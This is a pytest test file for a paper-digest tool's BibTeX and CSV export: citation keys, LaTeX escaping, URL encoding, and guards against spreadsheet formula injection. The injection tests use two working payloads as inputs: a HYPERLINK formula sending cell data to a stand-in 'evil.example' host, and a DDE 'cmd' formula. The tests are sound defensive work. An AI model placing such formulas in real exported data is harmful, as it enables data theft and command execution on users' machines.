"""Citation keys, the BibTeX and CSV exports (``digest export --format bibtex|csv``)."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from pybtex.database import BibliographyData, parse_string
from pybtex.database.output.bibtex import Writer as BibTeXWriter

from digest_archive.archive.files import read_names
from digest_archive.model import Digest, Entry, Section
from digest_archive.render.arxiv import arxiv_id
from digest_archive.render.bibtex import _bib_entry, bibtex, bibtex_entry
from digest_archive.render.cite import citation_keys, entry_year
from digest_archive.render.csvrows import CSV_COLUMNS, csv_rows
from digest_archive.text import urls
from digest_archive.text.variants import NAMES_FILE
from support.commands import run_digest as run
from support.paths import REPO_ROOT
from support.seeds import SEED_ENTRIES, read_seed

CJK = re.compile(r"[\u3000-\u9fff\uff00-\uffef]")
KEY = re.compile(r"[a-z0-9]+")


@pytest.fixture(autouse=True)
def _from_repo_root(in_repo_root):
    """Run every command from the repository root, as the docs tell users to."""


def paper(
    title: str = "Neural Mechanics",
    authors: tuple[str, ...] = ("D Kunin",),
    *,
    year: int | None = None,
    links: tuple[str, ...] = ("https://weibo.com/1402400261/JyFsjATR5",),
    category: str = "LG",
    truncated: bool = False,
) -> Entry:
    return Entry(
        section=Section.FEATURED,
        title=title,
        authors=list(authors),
        authors_truncated=truncated,
        year=year,
        links=list(links),
        category=category,
        line=1,
    )


def digest(date: str | None, *entries: Entry) -> Digest:
    return Digest(
        date=None if date is None else dt.date.fromisoformat(date),
        source=f"raw/{date}.txt",
        entries=list(entries),
    )


_LATEX_TEXT = {
    r"\textbackslash{}": "\\",
    r"\textbraceleft{}": "{",
    r"\textbraceright{}": "}",
    r"\textasciicircum{}": "^",
    r"\textasciitilde{}": "~",
    r"\$": "$",
    r"\%": "%",
    r"\&": "&",
    r"\#": "#",
    r"\_": "_",
}
_LATEX_COMMAND = re.compile("|".join(re.escape(command) for command in _LATEX_TEXT))


def latex_text(value: str) -> str:
    """The text LaTeX typesets for a BibTeX value of ours (the escapes, undone in one pass)."""
    assert not re.search(r"\\\\", value), value  # a doubled backslash is a line break
    return _LATEX_COMMAND.sub(lambda match: _LATEX_TEXT[match[0]], value)


def balanced(value: str) -> bool:
    depth = 0
    for char in value:
        depth += {"{": 1, "}": -1}.get(char, 0)
        if depth < 0:
            return False
    return depth == 0


# --- the archive's BibTeX ----------------------------------------------------------------------


@pytest.fixture(scope="module")
def seed_list(seeds) -> list[Digest]:
    return [seeds[date] for date in sorted(seeds)]


@pytest.fixture
def exported_bibtex(capsys) -> str:
    status, out, err = run(capsys, "export", "--format", "bibtex", "raw")
    assert (status, err) == (0, "")
    return out


@pytest.fixture
def bib(exported_bibtex) -> BibliographyData:
    return parse_string(exported_bibtex, "bibtex")


def test_bibtex_export_has_every_paper_once(exported_bibtex, bib):
    assert len(bib.entries) == 45 == sum(SEED_ENTRIES.values())
    keys = re.findall(r"^@misc\{([^,]+),$", exported_bibtex, re.MULTILINE)
    assert len(keys) == len(set(keys)) == 45
    assert list(bib.entries) == keys
    assert all(KEY.fullmatch(key) for key in keys)
    assert all(entry.type == "misc" for entry in bib.entries.values())


@pytest.fixture
def listed_bibtex(capsys) -> BibliographyData:
    status, out, err = run(capsys, "export", "--format", "bibtex", "--with-source", "raw")
    assert (status, err) == (0, "")
    return parse_string(out, "bibtex")


def test_bibtex_records_are_the_papers_own(bib):
    """No note on the digest unless asked for: a paper's record is the paper's."""
    assert all("note" not in entry.fields for entry in bib.entries.values())


def test_bibtex_export_is_chronological(listed_bibtex):
    notes = [entry.fields["note"] for entry in listed_bibtex.entries.values()]
    dates = [re.search(r"\d{4}-\d{2}-\d{2}", note)[0] for note in notes]
    assert dates == sorted(dates)
    assert dates.count("2020-12-16") == SEED_ENTRIES["2020-12-16"]


def test_with_source_names_the_digest_its_curator_and_post(listed_bibtex, bib):
    assert list(listed_bibtex.entries) == list(bib.entries)
    assert listed_bibtex.entries["kunin2020neural"].fields["note"] == (
        "Listed in the arXiv digest of 2020-12-16 by 爱可可-爱生活; Weibo: https://weibo.com/1402400261/JyFsjATR5"
    )
    assert listed_bibtex.entries["geiping2022much"].fields["note"] == (
        "Listed in the arXiv digest of 2022-10-15 by 爱可可-爱生活"
    )
    # Otherwise the same records.
    for key, entry in bib.entries.items():
        listed = listed_bibtex.entries[key]
        assert {field: value for field, value in listed.fields.items() if field != "note"} == dict(
            entry.fields
        )


def test_with_source_names_the_curator_given(capsys):
    status, out, _ = run(
        capsys, "export", "--format", "bibtex", "--with-source", "--curator", "A {Curator}", "raw/2022"
    )
    (first, *_) = parse_string(out, "bibtex").entries.values()
    assert status == 0
    assert latex_text(first.fields["note"]) == "Listed in the arXiv digest of 2022-10-15 by A {Curator}"
    status, out, _ = run(capsys, "export", "--format", "bibtex", "--with-source", "--curator", "", "raw/2022")
    (first, *_) = parse_string(out, "bibtex").entries.values()
    assert first.fields["note"] == "Listed in the arXiv digest of 2022-10-15"


@pytest.mark.parametrize("form", ["json", "csv"])
def test_with_source_is_for_citations_only(capsys, form):
    status, out, err = run(capsys, "export", "--format", form, "--with-source", "raw")
    assert (status, out) == (2, "")
    assert "--with-source is for bibtex, ris, csl-json" in err


def test_kunin2020neural(bib):
    entry = bib.entries["kunin2020neural"]
    assert entry.fields["title"] == (
        "{Neural Mechanics: Symmetry and Broken Conservation Laws in Deep Learning Dynamics}"
    )
    assert [str(person) for person in entry.persons["author"]] == [
        "Kunin, D",
        "Sagastuy-Brena, J",
        "Ganguli, S",
        "Yamins, D L.K.",
        "Tanaka, H",
    ]
    assert entry.fields["year"] == "2020"
    assert entry.fields["url"] == "https://weibo.com/1402400261/JyFsjATR5"
    assert entry.fields["keywords"] == "LG"
    assert "eprint" not in entry.fields


def test_arxiv_paper_with_a_truncated_author_list(exported_bibtex, bib, seeds):
    first = seeds["2022-10-15"].entries[0]
    assert first.number == 1
    key = citation_keys([seeds["2022-10-15"]])[dt.date(2022, 10, 15), 0]
    assert key == "geiping2022much"
    entry = bib.entries[key]
    assert entry.fields["eprint"] == "2210.06441"
    assert entry.fields["archivePrefix"] == "arXiv"
    assert entry.fields["primaryClass"] == "cs.LG"
    assert entry.fields["url"] == "https://arxiv.org/abs/2210.06441"
    assert entry.fields["year"] == "2022"
    assert str(entry.persons["author"][-1]) == "others"
    block = exported_bibtex.split(f"@misc{{{key},", 1)[1].split("\n}\n", 1)[0]
    assert re.search(r'author = ".*Shwartz-Ziv, R and others",', block)


def test_primary_class_is_the_full_code(bib):
    classes = {e.fields["keywords"]: e.fields.get("primaryClass") for e in bib.entries.values()}
    assert {code for code in classes if classes[code]} == {"LG", "CV", "CL", "RO"}
    assert classes["CV"] == "cs.CV"
    assert classes["RO"] == "cs.RO"


def test_no_chinese_in_the_bibtex(exported_bibtex):
    assert not CJK.search(exported_bibtex)


def test_seed_keys(seed_list):
    keys = citation_keys(seed_list)
    assert len(keys) == 45
    assert keys[dt.date(2020, 12, 16), 0] == "kunin2020neural"
    assert keys[dt.date(2020, 12, 16), 9] == "tung2020learning"
    assert keys[dt.date(2020, 11, 1), 4] == "mussmann2020importance"  # "On the" skipped
    assert keys[dt.date(2021, 4, 26), 6] == "chen2021high"
    assert keys[dt.date(2021, 4, 26), 8] == "defossez2021differentiable"  # Défossez
    assert keys[dt.date(2022, 10, 15), 6] == "rusch2022gradient"


def test_bibtex_entry_matches_the_whole_export(seed_list, bib):
    keys = citation_keys(seed_list)
    for one in seed_list:
        for index, entry in enumerate(one.entries):
            text = bibtex_entry(one, entry, keys[one.date, index])
            assert text.endswith("}\n")
            (parsed,) = parse_string(text, "bibtex").entries.values()
            assert parsed.fields == bib.entries[keys[one.date, index]].fields


def test_bibtex_of_nothing_is_empty():
    assert bibtex([]) == ""
    assert bibtex([digest(None, paper())]) == ""


# --- keys ------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("author", "title", "key"),
    [
        ("D Kunin", "Neural Mechanics: Symmetry", "kunin2020neural"),
        ("F D l Torre", "High-fidelity Face Tracking", "torre2020high"),
        ("R Martín-Martín", "Learning Multi-Arm Manipulation", "martinmartin2020learning"),
        ("D L.K. Yamins", "A PAC-Bayesian Approach", "yamins2020pac"),
        ("A Défossez", "On the Importance of Data", "defossez2020importance"),
        ("D Kunin", "How Much Data Are Augmentations Worth?", "kunin2020much"),
        ("D Kunin", "What's Encoded in a Winning Ticket", "kunin2020whats"),
        ("D Kunin", "Semi-supervised classification", "kunin2020semi"),
        ("D Kunin", "The", "kunin2020the"),
        ("D Kunin", "On the of", "kunin2020on"),
        ("D Kunin", "", "kunin2020paper"),
        ("D Kunin", "神经力学", "kunin2020paper"),
        ("张三", "Neural", "anon2020neural"),
        ("", "Neural", "anon2020neural"),
    ],
)
def test_key_parts(author, title, key):
    authors = (author,) if author else ()
    keys = citation_keys([digest("2020-12-16", paper(title, authors))])
    assert keys == {(dt.date(2020, 12, 16), 0): key}


def test_year_prefers_arxiv_then_written_then_digest():
    arxiv = paper(year=2019, links=("https://arxiv.org/pdf/2104.12345v2",))
    written = paper(year=2019)
    plain = paper()
    day = digest("2021-04-26", arxiv, written, plain)
    assert [entry_year(day, entry) for entry in day.entries] == [2021, 2019, 2021]
    assert entry_year(digest(None, plain), plain) is None
    assert list(citation_keys([day]).values()) == ["kunin2021neural", "kunin2019neural", "kunin2021neuralb"]


@pytest.mark.parametrize(
    ("link", "expected"),
    [
        ("https://arxiv.org/abs/2210.06441", "2210.06441"),
        ("https://arxiv.org/abs/2210.06441v3", "2210.06441"),
        ("http://www.arxiv.org/pdf/2210.06441v2.pdf", "2210.06441"),
        ("https://arxiv.org/pdf/2210.06441", "2210.06441"),
        ("https://arxiv.org/abs/1501.0001", "1501.0001"),
        ("https://arxiv.org/abs/hep-th/9901001v1", "hep-th/9901001"),
        ("https://arxiv.org/abs/2213.06441", None),  # no month 13
        ("https://arxiv.org/list/cs.LG/recent", None),
        ("https://weibo.com/1402400261/JyFsjATR5", None),
        ("https://example.com/arxiv.org/abs/2210.06441", None),
    ],
)
def test_arxiv_id(link, expected):
    assert arxiv_id(paper(links=(link,))) == expected


def test_arxiv_id_is_the_first_arxiv_link():
    entry = paper(
        links=(
            "https://weibo.com/1/JyFsjATR5",
            "https://arxiv.org/abs/2012.04728",
            "https://arxiv.org/abs/2101.00001",
        )
    )
    assert arxiv_id(entry) == "2012.04728"
    assert entry_year(digest("2020-12-16"), paper(links=("https://arxiv.org/abs/hep-th/9901001",))) == 1999


def test_duplicates_get_suffixes_b_to_z_then_numbers():
    keys = citation_keys([digest("2020-12-16", *[paper() for _ in range(30)])])
    suffixes = [key.removeprefix("kunin2020neural") for key in keys.values()]
    assert suffixes == ["", *"bcdefghijklmnopqrstuvwxyz", "27", "28", "29", "30"]
    assert list(keys) == [(dt.date(2020, 12, 16), index) for index in range(30)]


def test_duplicates_across_digests_go_by_date_and_index():
    early = digest("2020-12-16", paper(title="Other"), paper())
    late = digest("2021-01-05", paper(year=2020), paper(year=2020))
    expected = {
        (dt.date(2020, 12, 16), 0): "kunin2020other",
        (dt.date(2020, 12, 16), 1): "kunin2020neural",
        (dt.date(2021, 1, 5), 0): "kunin2020neuralb",
        (dt.date(2021, 1, 5), 1): "kunin2020neuralc",
    }
    assert citation_keys([early, late]) == expected
    assert citation_keys([late, early]) == expected


def test_a_suffixed_key_never_collides_with_a_base_key():
    # "Neuralb" is a real title word: its base key is the first duplicate's suffixed key.
    keys = citation_keys([digest("2020-12-16", paper(), paper(), paper("Neuralb"), paper())])
    assert list(keys.values()) == [
        "kunin2020neural",
        "kunin2020neuralb",
        "kunin2020neuralbb",
        "kunin2020neuralc",
    ]
    keys = citation_keys([digest("2020-12-16", paper("Neuralb"), paper(), paper())])
    assert list(keys.values()) == ["kunin2020neuralb", "kunin2020neural", "kunin2020neuralc"]


def test_keys_are_stable_when_a_later_digest_is_added(seeds, seed_list):
    before = citation_keys(seed_list[:-1])
    after = citation_keys(seed_list)
    assert {place: after[place] for place in before} == before
    repeat = digest("2023-01-01", paper(year=2020), *seeds["2022-10-15"].entries[:2])
    grown = citation_keys([*seed_list, repeat])
    assert {place: grown[place] for place in after} == after
    assert [grown[dt.date(2023, 1, 1), index] for index in range(3)] == [
        "kunin2020neuralb",
        "geiping2022muchb",
        "andriushchenko2022sgdb",
    ]


def test_keys_do_not_depend_on_the_order_digests_are_given(seed_list):
    keys = citation_keys(seed_list)
    shuffled = [seed_list[index] for index in (3, 0, 4, 2, 1)]
    assert citation_keys(shuffled) == keys
    assert citation_keys(reversed(seed_list)) == keys
    assert bibtex(shuffled) == bibtex(seed_list)


def test_an_older_digest_added_late_shifts_the_later_duplicates(seed_list):
    """The documented caveat: a digest filled in out of date order takes the base key."""
    older = digest("2020-12-01", paper(year=2020))
    keys = citation_keys([*seed_list, older])
    assert keys[dt.date(2020, 12, 1), 0] == "kunin2020neural"
    assert keys[dt.date(2020, 12, 16), 0] == "kunin2020neuralb"


def test_undated_and_repeated_digests_are_skipped(seeds):
    undated = digest(None, paper())
    again = seeds["2020-12-16"].model_copy(update={"source": "elsewhere/2020-12-16.txt"})
    keys = citation_keys([seeds["2020-12-16"], undated, again])
    assert len(keys) == SEED_ENTRIES["2020-12-16"]
    assert len(parse_string(bibtex([seeds["2020-12-16"], undated, again]), "bibtex").entries) == len(keys)


# --- hostile text ---------------------------------------------------------------------------

HOSTILE_TITLES = [
    "An {unbalanced brace",
    "A closing } brace",
    "}{ inside out",
    "{{{",
    "}}}",
    "{Balanced} braces",
    "100% of the time & more # tags_with_underscores",
    "Costs $5 ^ 2 ~ roughly",
    r"A \backslash and \emph{commands}",
    "A trailing backslash \\",
    r"Escaped \% already",
    '"Quoted" titles',
    "@misc{injected, title = {x}}",
    "Über naïve – café ’quotes’",
    "Line\nbreaks\tand   spaces",
]


@pytest.mark.parametrize("title", HOSTILE_TITLES)
def test_hostile_titles_round_trip(title):
    entry = paper(title, links=("https://arxiv.org/abs/2210.06441",))
    text = bibtex_entry(digest("2022-10-15"), entry, "key")
    (parsed,) = parse_string(text, "bibtex").entries.values()
    value = parsed.fields["title"]
    assert value.startswith("{") and value.endswith("}")
    assert balanced(value)
    assert latex_text(value[1:-1]) == " ".join(title.split())
    assert set(parsed.fields) == {
        "title",
        "year",
        "url",
        "eprint",
        "archivePrefix",
        "primaryClass",
        "keywords",
    }


def test_hostile_characters_are_escaped():
    text = bibtex_entry(digest("2022-10-15"), paper("a{b}c % & # _ $ \\ ^ ~"), "key")
    title = re.search(r"title = (.*),\n", text)[1]
    for escaped in (r"\%", r"\&", r"\#", r"\_", r"\$", r"\textbackslash{}", r"\textbraceleft{}"):
        assert escaped in title
    assert not re.search(r"(?<!\\)[%&#_$^~]", title)
    assert "\\\\" not in title


@pytest.mark.parametrize(
    "author",
    ["Smith, J", "Tom and Jerry", "others", "A {B", "J \\ K%", "Jo_hn {{Doe"],
)
def test_hostile_authors_stay_one_person_each(author):
    entry = paper(authors=("D Kunin", author, "S Ganguli"), truncated=True)
    text = bibtex_entry(digest("2020-12-16"), entry, "key")
    (parsed,) = parse_string(text, "bibtex").entries.values()
    persons = [str(person) for person in parsed.persons["author"]]
    assert len(persons) == 4
    assert persons[0] == "Kunin, D"
    assert persons[2:] == ["Ganguli, S", "others"]


def test_hostile_links_and_categories():
    entry = paper(
        links=('https://example.com/a b/{x}\\y"z/神经', "https://weibo.com/1402400261/Jy{F"),
        category="L{G",
    )
    text = bibtex_entry(digest("2020-12-16"), entry, "key", listed_by="爱可可-爱生活")
    (parsed,) = parse_string(text, "bibtex").entries.values()
    # What URLs may not hold is %-encoded, and the url is written as it is: BibTeX reads it verbatim.
    assert parsed.fields["url"] == "https://example.com/a%20b/%7Bx%7D%5Cy%22z/%E7%A5%9E%E7%BB%8F"
    assert latex_text(parsed.fields["note"]).endswith("; Weibo: https://weibo.com/1402400261/Jy%7BF")
    assert latex_text(parsed.fields["keywords"]) == "L{G"
    assert not CJK.search(text.replace("爱可可-爱生活", ""))


@pytest.mark.parametrize(
    "url",
    [
        "https://example.com/a%20b",
        "https://example.com/page#frag",
        "https://example.com/a_b",
        "https://example.com/?x=1&y=2",
        "https://example.com/~user/",
        "http://example.com/100%25_sure?q=a&b#top~1",
    ],
)
def test_bibtex_url_reads_back_byte_for_byte(url):
    entry = paper(links=(url, "https://weibo.com/1402400261/JyF_s#x"))
    text = bibtex_entry(digest("2020-12-16"), entry, "key", listed_by="")
    assert f'url = "{url}"' in text
    (parsed,) = parse_string(text, "bibtex").entries.values()
    assert parsed.fields["url"] == url
    # The note is text: LaTeX escapes stay.
    assert parsed.fields["note"].endswith(r"; Weibo: https://weibo.com/1402400261/JyF\_s\#x")


def test_no_authors_no_title_no_links():
    empty = Entry(section=Section.MORE, line=3)
    text = bibtex_entry(digest("2020-12-16"), empty, "anon2020paper")
    (parsed,) = parse_string(text, "bibtex").entries.values()
    assert dict(parsed.fields) == {"year": "2020"}
    text = bibtex_entry(digest(None), empty, "anon2020paper", listed_by="")
    (parsed,) = parse_string(text, "bibtex").entries.values()
    assert dict(parsed.fields) == {"note": "Listed in an arXiv digest"}
    assert citation_keys([digest("2020-12-16", empty)]) == {(dt.date(2020, 12, 16), 0): "anon2020paper"}


# Text made of what BibTeX, LaTeX and name parsing treat specially, as well as any text at all.
_HOSTILE_TEXT = st.lists(
    st.sampled_from([*'{}\\%&#_$^~"@, AéJ神\x00\n', "and", "others", " and ", "\\%", "{}"])
).map("".join)
# An arXiv paper's title, one author and category, from that text or any text.
_ANY_FIELDS = {
    "title": st.one_of(st.text(), _HOSTILE_TEXT),
    "author": st.one_of(st.text(), _HOSTILE_TEXT),
    "category": st.one_of(st.text(max_size=5), _HOSTILE_TEXT),
}


@pytest.mark.slow  # 300 examples read back by pybtex: some 3 s
@settings(max_examples=300, deadline=None)
@given(**_ANY_FIELDS)
def test_any_text_gives_valid_bibtex(title, author, category):
    entry = paper(title, (author,), category=category, links=("https://arxiv.org/abs/2210.06441",))
    (key,) = citation_keys([digest("2022-10-15", entry)]).values()
    assert KEY.fullmatch(key)
    text = bibtex_entry(digest("2022-10-15"), entry, key)
    (parsed,) = parse_string(text, "bibtex").entries.values()
    if title.split():
        assert latex_text(parsed.fields["title"][1:-1]) == " ".join(title.split())
    assert len(parsed.persons.get("author", [])) == (1 if author.split() else 0)


# What follows a link's start: any text, or text made of what BibTeX, LaTeX and URLs treat specially.
_URL_TEXT = st.one_of(
    st.text(), st.lists(st.sampled_from([*'%#_&~{}\\"@$^,?=/', "%20", "a", "神"])).map("".join)
)
# Links as the parser keeps them (one http(s) token), many of them arXiv or Weibo links.
_LINK = (
    st.builds(
        str.__add__,
        st.sampled_from(
            [
                "http://",
                "https://",
                "https://example.com/",
                "https://arxiv.org/abs/2210.06441",
                "http://export.arxiv.org/pdf/hep-th/9901001v2.pdf#",
                "https://weibo.com/1402400261/JyFsjATR5",
            ]
        ),
        _URL_TEXT,
    )
    .map(lambda link: "".join(link.split()))
    .filter(urls.is_http)
)


@pytest.mark.slow  # 300 examples read back by pybtex: some 1.5 s
@settings(max_examples=300, deadline=None)
@given(link=_LINK)
def test_bibtex_url_is_the_link_as_encoded(link):
    """pybtex's parser reads back the arXiv abstract page or the %-encoded link, byte for byte."""
    found = urls.arxiv_id(link)
    text = bibtex_entry(digest("2022-10-15"), paper(links=(link,)), "key")
    (parsed,) = parse_string(text, "bibtex").entries.values()
    if found is None:
        assert parsed.fields["url"] == urls.encode(link)
        assert "eprint" not in parsed.fields
    else:
        assert parsed.fields["url"] == f"https://arxiv.org/abs/{found.id}"
        assert parsed.fields["eprint"] == found.id


@settings(max_examples=300, deadline=None)
@given(**_ANY_FIELDS)
def test_bibtex_is_what_pybtexs_own_writer_writes(title, author, category):
    """The regex escaping (bibtex._Writer) agrees with pybtex's latexcodec one."""
    one = digest("2022-10-15")
    entry = paper(title, (author,), category=category, links=("https://arxiv.org/abs/2210.06441",))
    data = BibliographyData(entries={"key": _bib_entry(one, entry, title)})
    stock = BibTeXWriter(encoding="UTF-8").to_string(data)
    assert bibtex_entry(one, entry, "key", listed_by=title) == stock


# --- CSV -------------------------------------------------------------------------------------


def test_csv_export(capsys, seed_list):
    status, out, err = run(capsys, "export", "--format", "csv", "raw")
    assert (status, err) == (0, "")
    reader = csv.DictReader(io.StringIO(out, newline=""))
    rows = list(reader)
    assert tuple(reader.fieldnames) == CSV_COLUMNS
    assert len(rows) == 45
    # With the names as the repository's names.toml shows them, as the site's files do.
    names = read_names(REPO_ROOT / NAMES_FILE)
    assert rows == list(csv_rows([names.applied(digest) for digest in seed_list]))
    rashkin = next(row for row in rows if row["key"] == "rashkin2021increasing")
    assert rashkin["affiliations"] == "Google Research"
    assert "Google Research," in read_seed("2021-07-19")
    keys = citation_keys(seed_list)
    assert [row["key"] for row in rows] == list(keys.values())
    kunin = next(row for row in rows if row["key"] == "kunin2020neural")
    assert kunin["date"] == "2020-12-16"
    assert kunin["number"] == "1"
    assert kunin["section"] == "featured"
    assert kunin["authors"] == "D Kunin; J Sagastuy-Brena; S Ganguli; D L.K. Yamins; H Tanaka"
    assert kunin["year"] == "2020"
    assert kunin["source"] == "raw/2020/2020-12-16.txt"
    assert kunin["summary_zh"]
    assert CJK.search(kunin["summary_zh"])
    assert kunin["abstract_en"]
    geiping = next(row for row in rows if row["key"] == "geiping2022much")
    assert geiping["authors_truncated"] == "true"
    assert geiping["links"] == "https://arxiv.org/abs/2210.06441"


def test_csv_to_a_file_is_utf8(capsys, tmp_path, seeds):
    target = tmp_path / "papers.csv"
    status, out, _ = run(capsys, "export", "--format", "csv", "raw", "-o", str(target))
    assert (status, out) == (0, "")
    with target.open(encoding="utf-8", newline="") as stream:
        rows = list(csv.DictReader(stream))
    assert len(rows) == 45
    by_key = {row["key"]: row for row in rows}
    original = seeds["2020-12-16"].entries[0]
    assert by_key["kunin2020neural"]["summary_zh"] == original.summary_zh
    assert by_key["kunin2020neural"]["abstract_en"] == original.abstract_en
    assert all(row["line"].isdigit() for row in rows)


# What spreadsheets take for the start of a formula: OWASP's list, and a line feed.
FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n")
# The columns that hold the text every_text_field gives every field.
_TEXT_COLUMNS = (
    "title",
    "title_zh",
    "authors",
    "affiliations",
    "category",
    "summary_zh",
    "abstract_en",
    "figures",
)


def written_csv(digests: list[Digest]) -> list[dict[str, str]]:
    """The rows of ``digests`` as ``digest export --format csv`` writes them, read back."""
    buffer = io.StringIO(newline="")
    writer = csv.DictWriter(buffer, fieldnames=CSV_COLUMNS)
    writer.writeheader()
    writer.writerows(csv_rows(digests))
    return list(csv.DictReader(io.StringIO(buffer.getvalue(), newline="")))


def every_text_field(text: str, link: str = "https://example.com/") -> Entry:
    """A paper whose every text field (authors, affiliations and figures: one each) is ``text``."""
    return paper(text, (text,), category=text, links=(link,)).model_copy(
        update={
            "title_zh": text,
            "affiliations": [text],
            "summary_zh": text,
            "abstract_en": text,
            "figures": [text],
        }
    )


@pytest.mark.parametrize(
    "text",
    [
        "=1+2",
        "+A1",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+2",
        "\r=1+2",
        "\n=1+2",
        '=HYPERLINK("https://evil.example/?"&A1,"click")',
        "=cmd|' /C calc'!A0",
    ],
)
def test_csv_cells_that_start_a_formula_get_a_quote(text):
    (row,) = written_csv([digest("2020-12-16", every_text_field(text))])
    for column in _TEXT_COLUMNS:
        assert row[column] == "'" + text, column


@pytest.mark.parametrize("text", ["Neural Mechanics", "'=1+2", " =1+2", "1+2", "a=b", "L-BFGS", "神经-力学"])
def test_other_csv_cells_are_written_as_they_are(text):
    (row,) = written_csv([digest("2020-12-16", every_text_field(text))])
    for column in _TEXT_COLUMNS:
        assert row[column] == text, column


# Text of any kind, and text made of what starts formulas and what CSV quotes.
_CELL_TEXT = st.one_of(st.text(), st.lists(st.sampled_from([*"=+-@\t\r\n'\",; aZ神", "=1+2"])).map("".join))


@settings(max_examples=300, deadline=None)
@given(text=_CELL_TEXT, link=_CELL_TEXT)
def test_no_csv_cell_starts_a_formula(text, link):
    """No cell starts a formula; each is its value, with one quote added only if the value would."""
    (row,) = written_csv([digest("2020-12-16", every_text_field(text, link))])
    assert not any(cell.startswith(FORMULA_START) for cell in row.values())
    for column, value in {**dict.fromkeys(_TEXT_COLUMNS, text), "links": link}.items():
        assert row[column] == ("'" + value if value.startswith(FORMULA_START) else value), column


# --- the command ---------------------------------------------------------------------------


def test_bibtex_to_a_file(capsys, tmp_path, exported_bibtex):
    target = tmp_path / "papers.bib"
    status, out, _ = run(capsys, "export", "--format", "bibtex", "raw", "-o", str(target))
    assert (status, out) == (0, "")
    assert target.read_text(encoding="utf-8") == exported_bibtex


def test_json_stays_the_default(capsys):
    _, default, _ = run(capsys, "export", "raw/2022/2022-10-15.txt")
    _, explicit, _ = run(capsys, "export", "--format", "json", "raw/2022/2022-10-15.txt")
    assert default == explicit
    assert default.startswith("[")


def test_unknown_format_is_a_usage_error(capsys):
    status, _, err = run(capsys, "export", "--format", "endnote", "raw")
    assert status == 2
    assert "invalid choice" in err


#: What each format writes for no papers.
NOTHING = {
    "bibtex": "",
    "ris": "",
    "csl-json": "[]\n",
    "csv": ",".join(f'"{column}"' for column in CSV_COLUMNS) + "\r\n",
}


@pytest.mark.parametrize("fmt", NOTHING)
def test_unreadable_files_exit_1(capsys, tmp_path, fmt):
    (tmp_path / "2020-12-16.txt").write_bytes(b"\x00\x01")
    status, out, err = run(capsys, "export", "--format", fmt, str(tmp_path))
    assert status == 1
    assert "DA001" in err
    assert out == NOTHING[fmt]


@pytest.mark.parametrize("fmt", NOTHING)
def test_undated_and_repeated_files_are_reported(capsys, tmp_path, fmt):
    (tmp_path / "notes.txt").write_text(read_seed("2020-12-16"), encoding="utf-8")
    (tmp_path / "2020-12-16.txt").write_text(read_seed("2020-12-16"), encoding="utf-8")
    status, out, err = run(capsys, "export", "--format", fmt, str(tmp_path), "raw/2020/2020-12-16.txt")
    assert status == 1
    undated = "file name is not YYYY-MM-DD.txt (the digest's date); not exported"
    assert f"{tmp_path}/notes.txt:1:1: {undated}" in err
    assert f"raw/2020/2020-12-16.txt:1:1: same date as {tmp_path}/2020-12-16.txt; not exported" in err
    assert out.count("kunin2020neural") == 1
    assert "kunin2020neuralb" not in out


def test_help_names_the_formats(capsys):
    status, out, _ = run(capsys, "export", "--help")
    assert status == 0
    assert "{json,bibtex,ris,csl-json,csv}" in out
    assert "kunin2020neural" in out
